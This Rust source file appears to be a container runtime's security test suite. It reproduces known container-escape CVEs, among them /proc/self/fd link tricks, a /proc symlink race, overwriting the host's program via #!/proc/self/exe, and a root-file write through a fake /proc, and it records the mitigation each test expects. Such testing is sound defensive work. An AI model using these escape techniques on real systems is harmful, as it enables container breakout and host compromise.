//! The way into a container: what an image can do to the process that enters it.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

use anyhow::{Context, Result};
use nix::sys::stat::Mode;
use nix::unistd::mkfifo;

use super::peers::Request;
use super::stage::{OPEN, OTHER_USER, Stage, Staged, has_secret, id_of, own_copy, reason};
use super::{Attack, gained, nothing, staged};
use crate::host::Identity;
use crate::process::{Process, wait_until};
use crate::{paths, skip};

const NOTHING_OPEN: &str =
    "paths inside are resolved without magic links, when nothing of the host is open any more";

pub(super) const ATTACKS: &[Attack] = &[
    staged(
        "workdir-link",
        "CVE-2024-21626",
        "makes the working directory a link to /proc/self/fd/N, which the launcher has open",
        NOTHING_OPEN,
        |stage| {
            stage.ensure_works(&Request { workdir: Some("/tmp"), ..Request::of(&["true"]) })?;
            let script = stage.script();
            stage.by_links(|link| {
                let command = ["sh", "-c", &script];
                let request = Request { workdir: Some(link), ..Request::of(&command) };
                let output = stage.run(&request)?;
                Ok((has_secret(&output), output))
            })
        },
    ),
    staged(
        "command-link",
        "CVE-2024-21626",
        "has a program of the host executed through a link to /proc/self/fd/N",
        NOTHING_OPEN,
        |stage| {
            stage.ensure_works(&Request::of(&["/bin/try-call", "open", "/"]))?;
            stage.by_links(|link| {
                let output = stage.run(&Request::of(&[&format!("{link}/program")]))?;
                Ok((output.code() == UNKNOWN_CALL, output))
            })
        },
    ),
    staged(
        "volume-link",
        "CVE-2021-30465",
        "has a volume mounted on a link to /proc/self/fd/N",
        NOTHING_OPEN,
        volume_link,
    ),
    staged(
        "volume-on-kernel",
        "CVE-2023-27561",
        "has a volume mounted over /proc or /sys, directly and through a link of the image",
        "such targets are refused, by the file system that they are on",
        volume_on_kernel,
    ),
    staged(
        "flipping-proc",
        "CVE-2019-19921",
        "makes /proc a link, and points it elsewhere while the masks are mounted",
        "masks are mounted beneath the descriptor by which /proc itself was mounted",
        flipping_proc,
    ),
    staged(
        "join-workdir-link",
        "CVE-2024-21626",
        "makes the working directory of a process that joins a link to /proc/self/fd/N",
        NOTHING_OPEN,
        |stage| {
            let _container = running(stage)?;
            let script = stage.script();
            stage.by_links(|link| {
                let command = ["sh", "-c", &script];
                let request = Request { workdir: Some(link), ..Request::of(&command) };
                let output = stage.enter(&request, None)?;
                Ok((has_secret(&output), output))
            })
        },
    ),
    staged(
        "join-program",
        "CVE-2019-5736",
        "overwrites the program that joins the container: it is executed again as #!/proc/self/exe",
        "the program runs from a read-only clone where an id inside could write its file",
        join_program,
    ),
    staged(
        "join-terminal",
        "CVE-2016-9962",
        "lets root join a container whose /proc is made of links, and write to one instead of a terminal",
        "the terminal is opened before the crossing",
        join_terminal,
    ),
];

/// How `try-call` ends without a call that it knows.
const UNKNOWN_CALL: i32 = 255;

const A_MOMENT: Duration = Duration::from_secs(5);

/// A container that can be joined.
fn running(stage: &Stage<'_>) -> Result<crate::launch::Launched> {
    let container = stage.start_named(&["sleep", "30"])?;
    let mut last = String::new();
    let joined = wait_until("a container that can be joined", A_MOMENT, || {
        let output = stage.enter(&Request::of(&["true"]), None)?;
        last = reason(&output);
        Ok(output.code() == 0)
    });
    match joined {
        Err(error) if error.is::<crate::Skip>() => Err(error),
        Err(_) => skip(format!("it cannot be joined: {last}")),
        Ok(()) => Ok(container),
    }
}

/// A mount that lies nowhere inside lies outside.
fn volume_link(stage: &Stage<'_>) -> Staged {
    let volume = stage.step.host().directory()?;
    let name = volume.here.file_name().context("no name")?.to_string_lossy().into_owned();
    let show = ["cat", "/proc/self/mountinfo"];
    stage.ensure_works(&Request { volume: Some((&volume, "/mnt")), ..Request::of(&show) })?;
    stage.by_links(|link| {
        let output = stage.run(&Request { volume: Some((&volume, link)), ..Request::of(&show) })?;
        let inside = |line: &str| {
            let point = line.split(' ').nth(4).unwrap_or_default();
            line.contains(&name) && !point.starts_with("/proc")
        };
        Ok((output.code() == 0 && !output.stdout.lines().any(inside), output))
    })
}

fn volume_on_kernel(stage: &Stage<'_>) -> Staged {
    stage.ensure_works(&Request {
        volume: Some((&stage.outside, "/mnt")),
        ..Request::of(&["cat", "/mnt/marker"])
    })?;
    let link = stage.rootfs.here.join("kernel");
    if fs::symlink_metadata(&link).is_err() {
        symlink("/proc", link).context("symlink")?;
    }
    let mut answer = String::new();
    for target in ["/proc", "/proc/sys", "/sys", "/sys/kernel", "/kernel/tty"] {
        let marker = format!("{target}/marker");
        let command = ["cat", &marker];
        let request = Request { volume: Some((&stage.outside, target)), ..Request::of(&command) };
        let output = stage.run(&request)?;
        if has_secret(&output) {
            return Ok(gained(format!("{target} is a directory of the user's")));
        }
        answer = reason(&output);
    }
    Ok(nothing(answer))
}

/// Another process with the same root filesystem flips the link. What was mounted on one place is
/// looked for there.
fn flipping_proc(stage: &Stage<'_>) -> Staged {
    const ROUNDS: usize = 60;
    let masked = stage.run(&Request::of(&["sh", "-c", "wc -c < /proc/interrupts"]))?;
    if masked.stdout.trim() != "0" {
        return skip("nothing is masked here");
    }
    let show =
        "test -d /p1/self || exit 9; cat /p1/sys/user/max_user_namespaces; wc -c < /p1/interrupts";
    let tree = &stage.rootfs.here;
    let fake = tree.join("fake/sys/user");
    fs::create_dir_all(&fake).context("mkdir")?;
    fs::write(fake.join("max_user_namespaces"), "").context("write")?;
    fs::create_dir(tree.join("p1")).context("mkdir")?;
    fs::rename(tree.join("proc"), tree.join("proc.dir")).context("rename")?;
    symlink("p1", tree.join("proc")).context("symlink")?;
    let stop = AtomicBool::new(false);
    let found = std::thread::scope(|scope| {
        scope.spawn(|| flip(tree, &stop));
        let found = (0..ROUNDS).find_map(|_| unmasked(stage, show).transpose());
        stop.store(true, Relaxed);
        found.transpose()
    });
    fs::remove_file(tree.join("proc")).context("remove")?;
    fs::rename(tree.join("proc.dir"), tree.join("proc")).context("rename")?;
    Ok(match found? {
        Some(shown) => gained(format!("a container without masks: {shown}")),
        None => nothing(format!("none of {ROUNDS} containers was without masks")),
    })
}

/// Whether one start has a /proc and no masks on it.
fn unmasked(stage: &Stage<'_>, show: &str) -> Result<Option<String>> {
    let output = stage.run(&Request::of(&["sh", "-c", show]))?;
    let numbers: Vec<u64> =
        output.stdout.lines().filter_map(|line| line.trim().parse().ok()).collect();
    Ok(match numbers[..] {
        [_, interrupts] if interrupts > 0 => {
            Some(format!("{interrupts} bytes of /proc/interrupts"))
        }
        _ => None,
    })
}

fn flip(tree: &Path, stop: &AtomicBool) {
    let next = tree.join("next");
    while !stop.load(Relaxed) {
        for target in ["p1", "fake"] {
            let _ = symlink(target, &next);
            let _ = fs::rename(&next, tree.join("proc"));
        }
    }
}

/// The loader of the image waits for ever on a FIFO, so that the program stays where the attacker
/// finds it.
fn join_program(stage: &Stage<'_>) -> Staged {
    drop(running(stage)?);
    let joiner = own_copy(stage, "enter")?;
    let word = id_of(&joiner.here)?;
    let tool = stage.rootfs.join("tool");
    tool.write("#!/proc/self/exe\n")?;
    fs::set_permissions(&tool.here, Permissions::from_mode(0o755)).context("chmod")?;
    let mut container = stage.start_named(&["attacker", "ambush", &word])?;
    wait_until("the ambush", A_MOMENT, || Ok(container.stdout_so_far()?.starts_with("ready")))?;
    let preload = stage.rootfs.here.join("etc/ld.so.preload");
    mkfifo(&preload, Mode::from_bits_truncate(0o666)).context("mkfifo")?;
    let joined = stage.enter(&Request::of(&["/tool"]), Some(&joiner));
    let ambush = container.wait();
    fs::remove_file(preload).context("remove")?;
    let (output, ambush) = (joined?, ambush?);
    let answer = ambush.stdout.lines().find_map(|line| line.strip_prefix("ambush: "));
    Ok(match answer {
        Some("open for writing") => gained("the host's program is open for writing"),
        Some(other) => nothing(other),
        None => nothing(reason(&output)),
    })
}

/// An ordinary user's container, whose mount table that user has changed: /proc/self/fd/1 is a
/// link to a file that only root may write.
fn join_terminal(stage: &Stage<'_>) -> Staged {
    stage.needs_option("--name")?;
    if stage.step.identity != Identity::Root {
        return skip("root joins somebody else's container");
    }
    let victim = stage.outside.join("victim");
    victim.write("")?;
    fs::set_permissions(&victim.here, Permissions::from_mode(0o600)).context("chmod")?;
    let host = stage.step.host();
    let (program, tree) = (paths::on_host(stage.step, "09-full")?, stage.open_tree()?);
    let volume = format!("{OPEN}/outside:/mnt");
    let argv = [program.as_str(), "--name", "theirs", "--volume", &volume, &tree, "sleep", "30"];
    let container = stage.step.on_host().spawn(&[&OTHER_USER, &argv[..]].concat())?;
    // Process 1 belongs to nobody that could join it; its child is the user's.
    let payload =
        |process: &Process| process.cmdline().is_ok_and(|words| words == b"sleep\x0030\0");
    let mut found = None;
    wait_until("another user's container", A_MOMENT, || {
        found = container.process().descendants().into_iter().find(payload);
        Ok(found.is_some())
    })?;
    let payload = found.context("no payload")?;
    let first = |process: &Process| {
        process.ns_pids().is_ok_and(|pids| pids.last() == Some(&1)) && *process != payload
    };
    let process_1 = container.process().descendants().into_iter().find(first);
    let number = host.number_of(process_1.unwrap_or(payload))?.to_string();
    let target = format!("--target={}", host.number_of(payload)?);
    let enter = ["nsenter", &target, "--user", "--mount", "--preserve-credentials"];
    let fake = ["/bin/attacker", "fake-proc", "/mnt/victim"];
    wait_until("the links", A_MOMENT, || {
        let output = stage.step.on_host().attempt(&[&OTHER_USER, &enter[..], &fake].concat())?;
        Ok(output.code() == 0)
    })?;
    let enter =
        format!("{} {number} /bin/sh -c 'echo pwned'", paths::on_host(stage.step, "enter")?);
    let output = stage.step.on_host().attempt(&["script", "-qec", &enter, "/dev/null"])?;
    let written = fs::read_to_string(&victim.here).context("read")?;
    Ok(match written.is_empty() {
        false => gained(format!("{} bytes in a file of root's", written.len())),
        true => nothing(format!("root's file stays empty; exit code {}", output.code())),
    })
}
